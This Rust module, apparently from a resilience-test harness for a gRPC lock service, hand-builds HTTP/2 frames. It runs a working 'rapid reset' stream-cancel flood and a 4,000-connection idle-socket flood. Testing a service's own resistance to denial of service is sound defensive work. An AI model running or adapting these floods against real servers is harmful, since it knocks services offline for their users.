//! What can be done without gRPC: frames of HTTP/2 as bytes, and connections without any.

use std::io;
use std::time::Duration;

use anyhow::{Result, ensure};
use tokio::io::{AsyncReadExt, AsyncWriteExt, sink};
use tokio::net::{TcpSocket, TcpStream};
use tokio::time::sleep;

use super::{FROM, Target};

/// Connections that open and reset streams.
const RESETTING: usize = 8;
/// Streams in one write.
const BATCH: usize = 64;
/// Connections that are silent, if they are let in.
const SILENT: usize = 4_000;
/// After a connection has ended, or was refused.
const AGAIN: Duration = Duration::from_millis(5);

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const FRAME_HEAD: usize = 9;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const END_HEADERS: u8 = 4;
const CANCEL: [u8; 4] = [0, 0, 0, 8];

pub(super) fn reset(target: &Target) -> Result<()> {
    let headers = headers(&target.token)?;
    for _ in 0..RESETTING {
        let (target, headers) = (target.clone(), headers.clone());
        tokio::spawn(async move {
            loop {
                // Until the server hangs up.
                let _ = open_and_reset(&target, &headers).await;
                sleep(AGAIN).await;
            }
        });
    }
    Ok(())
}

async fn open_and_reset(target: &Target, headers: &[u8]) -> io::Result<()> {
    let (mut answers, mut requests) = connect(target).await?.into_split();
    let reading = tokio::spawn(async move { tokio::io::copy(&mut answers, &mut sink()).await });
    let mut bytes = PREFACE.to_vec();
    frame(&mut bytes, (SETTINGS, 0), 0, &[]);
    for stream in (1..1 << 30_u32).step_by(2) {
        frame(&mut bytes, (HEADERS, END_HEADERS), stream, headers);
        frame(&mut bytes, (RST_STREAM, 0), stream, &CANCEL);
        target.attempt();
        if bytes.len() > BATCH * (headers.len() + FRAME_HEAD) {
            requests.write_all(&bytes).await?;
            bytes.clear();
        }
        if reading.is_finished() {
            break;
        }
    }
    Ok(())
}

fn frame(bytes: &mut Vec<u8>, (kind, flags): (u8, u8), stream: u32, payload: &[u8]) {
    let length = (payload.len() as u32).to_be_bytes();
    bytes.extend(&length[1..]);
    bytes.extend([kind, flags]);
    bytes.extend(stream.to_be_bytes());
    bytes.extend(payload);
}

/// Headers of an Acquire, as HPACK without its tables.
fn headers(token: &str) -> Result<Vec<u8>> {
    // :method POST and :scheme http are known to everybody.
    let mut block = vec![0x83, 0x86];
    let authorization = format!("Bearer {token}");
    for (name, value) in [
        (":path", "/holdfast.v1.LockService/Acquire"),
        (":authority", "holdfast"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
        ("authorization", &authorization),
    ] {
        block.push(0);
        for text in [name, value] {
            ensure!(text.len() < 127, "{text} needs more than a byte for its length");
            block.push(text.len() as u8);
            block.extend(text.as_bytes());
        }
    }
    Ok(block)
}

pub(super) fn silent(target: &Target) {
    for _ in 0..SILENT {
        let target = target.clone();
        tokio::spawn(async move {
            loop {
                target.attempt();
                if let Ok(mut connection) = connect(&target).await {
                    // Until the server hangs up.
                    let _ = connection.read(&mut [0]).await;
                }
                sleep(AGAIN).await;
            }
        });
    }
}

async fn connect(target: &Target) -> io::Result<TcpStream> {
    let socket = TcpSocket::new_v4()?;
    socket.bind((FROM, 0).into())?;
    socket.connect(target.address).await
}
